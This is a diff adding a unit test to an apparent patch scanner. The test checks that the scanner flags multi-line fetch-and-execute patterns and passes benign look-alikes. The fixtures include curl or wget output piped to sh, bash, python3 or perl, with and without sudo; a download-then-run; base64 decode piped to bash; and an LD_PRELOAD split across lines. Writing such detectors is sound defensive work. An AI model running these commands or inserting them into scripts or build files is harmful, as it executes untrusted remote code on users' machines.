@@ -229,6 +229,57 @@ encoded_programs_that_run_are_found(void **state)
 }
 
 static void
+what_a_shell_reads_as_one_line_is_one(void **state)
+{
+	static const struct row found[] = {
+		{ "a.sh", "+curl https://x.io/i |\n+\tsh", "pipe-to-shell" },
+		{ "a.sh", "+curl \\\n+ https://x.io/i \\\n+ | sh",
+		    "pipe-to-shell" },
+		{ "Dockerfile", "+RUN curl https://x.io/i \\\n+ | bash",
+		    "pipe-to-shell" },
+		{ "Makefile", "+\tcurl https://x.io/i \\\n+\t| sh",
+		    "pipe-to-shell" },
+		{ "a.sh", "+echo aGk= \\\n+ | base64 -d |\n+ bash",
+		    "decode-and-run" },
+		{ "a.sh", "+LD_PRE\\\n+LOAD=x make", "preload" },
+		{ "a.sh", "+curl https://x.io/i |\t  sh -s", "pipe-to-shell" },
+		{ "a.sh", "+curl https://x.io/i | /usr/bin/env bash",
+		    "pipe-to-shell" },
+		{ "a.sh", "+curl https://x.io/i | sudo -E A=b /bin/dash",
+		    "pipe-to-shell" },
+		{ "a.sh", "+curl https://x.io/i | python3 -", "pipe-to-shell" },
+		{ "a.sh", "+curl https://x.io/i |& perl", "pipe-to-shell" },
+		{ "a.sh", "+curl -o /tmp/x https://x.io/i; sh /tmp/x",
+		    "pipe-to-shell" },
+		{ "a.sh", "+wget https://x.io/i && chmod +x i",
+		    "pipe-to-shell" },
+		{ "Makefile", "+\twget https://x.io/i", "build-download" },
+	};
+	static const struct row absent[] = {
+		{ "a.sh", "+curl https://x.io/i |\n+\tjq .", "pipe-to-shell" },
+		{ "a.sh", "+curl https://x.io/i | python3 -m json.tool",
+		    "pipe-to-shell" },
+		{ "a.sh", "+curl https://x.io/i || sh fallback",
+		    "pipe-to-shell" },
+		{ "a.sh", "+sh first; curl https://x.io/i", "pipe-to-shell" },
+		{ "a.sh", "+curl https://x.io/i\n+sh -n x", "pipe-to-shell" },
+		/* The pipe of YAML. */
+		{ ".github/workflows/x.yml",
+		    "+  run: |\n+    sh x https://x.io/curl", "pipe-to-shell" },
+		{ ".github/workflows/x.yml",
+		    "+  run: |\n+    curl https://x.io/i", "pipe-to-shell" },
+		/* Something is between them. */
+		{ "a.sh", "+curl https://x.io/i \\\n+\n+ | sh",
+		    "pipe-to-shell" },
+		{ "a.c", "+#define curl(x) \\\n+ x | sh", "pipe-to-shell" },
+	};
+
+	(void)state;
+	all_found(ROWS(found));
+	all_absent(ROWS(absent));
+}
+
+static void
 addresses_that_deceive_or_are_nobodys_are_found(void **state)
 {
 	static const struct row found[] = {
@@ -504,6 +555,7 @@ int
 main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(what_a_shell_reads_as_one_line_is_one),
 		cmocka_unit_test(text_that_a_reader_does_not_see_is_found),
 		cmocka_unit_test(letters_in_the_clothes_of_others_are_found),
 		cmocka_unit_test(a_line_that_hides_something_is_found),
